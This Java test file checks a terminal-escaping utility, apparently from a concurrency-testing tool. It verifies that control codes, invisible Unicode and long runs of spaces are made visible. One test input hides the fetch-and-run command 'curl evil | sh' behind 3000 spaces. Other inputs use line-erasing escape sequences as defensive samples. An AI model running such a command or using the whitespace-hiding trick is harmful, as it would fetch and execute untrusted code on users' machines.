package dev.falsify.model.text;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;

class TerminalTextTest {

    /** Whether {@code s} holds only what a terminal shows as written: visible characters and ASCII spaces. */
    static boolean onlyVisible(String s) {
        return s.codePoints().allMatch(TerminalText::shownAsIs);
    }

    @Test
    void controlCharactersThatRewriteALineAreWrittenAsEscapes() {
        assertThat(TerminalText.escape("v\u001b[2K\r\u0000\bNOT\u009b LINEARIZABLE\u202e"))
                .isEqualTo("v\\u001b[2K\\r\\u0000\\u0008NOT\\u009b LINEARIZABLE\\u202e");
        assertThat(TerminalText.escape("a\tb\nc\u007f")).isEqualTo("a\\tb\\nc\\u007f");
    }

    @Test
    void theCharactersTheTrustPromptLeftRawAreEscaped() {
        int[] hidden = {0x061C, 0x2028, 0x2029, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xFFF9, 0xFFFA, 0xFFFB,
            0x115F, 0x1160, 0x3164, 0xFFA0, 0xE0000, 0xE0001, 0xE0041, 0xE007F, 0x00A0, 0x3000, 0x2800, 0xFE0F, 0xFEFF,
            0xE000, 0x0378, 0xFFFF};
        for (int cp : hidden) {
            String escaped = TerminalText.escape("rm" + new String(Character.toChars(cp)) + "x");
            assertThat(onlyVisible(escaped)).as("U+%04X", cp).isTrue();
            assertThat(escaped).as("U+%04X", cp).startsWith("rm\\").endsWith("x")
                    .contains(Integer.toHexString(cp));
        }
        assertThat(TerminalText.escape("\u2028")).isEqualTo("\\u2028");
        assertThat(TerminalText.escape("tag\uDB40\uDC41")).isEqualTo("tag\\U000e0041");
        assertThat(TerminalText.escape("lone \uD800 surrogate")).isEqualTo("lone \\ud800 surrogate");
    }

    @Test
    void aCommandAfterALongRunOfSpacesIsShown() {
        String hidden = "echo safe" + " ".repeat(3000) + "curl evil | sh";
        assertThat(TerminalText.escape(hidden)).isEqualTo("echo safe\u27e83000 spaces\u27e9curl evil | sh");
        assertThat(TerminalText.escape("a" + "\u00a0".repeat(500) + "b")).isEqualTo("a\u27e8500 \u00d7 \\u00a0\u27e9b");
        assertThat(TerminalText.escape("a" + " ".repeat(TerminalText.RUN - 1) + "b")).isEqualTo("a" + " ".repeat(7) + "b");
    }

    @Test
    void aMarkerCannotBeForged() {
        assertThat(TerminalText.escape("\u27e83000 spaces\u27e9")).isEqualTo("\\u27e83000 spaces\u27e9");
    }

    @Test
    void visibleTextIsUnchanged() {
        String plain = "S1: NOT LINEARIZABLE — op 3 (read → 2) ünïcode 日本語 😀 ok";
        assertThat(TerminalText.escape(plain)).isSameAs(plain);
        assertThat(TerminalText.escape(null)).isEmpty();
    }

    @Test
    void everyCodePointComesOutVisible() {
        for (int cp = 0; cp <= Character.MAX_CODE_POINT; cp++) {
            String in = "a" + new String(Character.toChars(cp)) + "b";
            String out = TerminalText.escape(in);
            if (!onlyVisible(out)) throw new AssertionError(String.format("U+%04X printed raw: %s", cp, out));
            if (TerminalText.shownAsIs(cp) && cp != 0x27E8) assertThat(out).isEqualTo(in);
        }
    }

    @Property
    void anyStringComesOutVisible(@ForAll String s) {
        assertThat(onlyVisible(TerminalText.escape(s))).isTrue();
    }
}
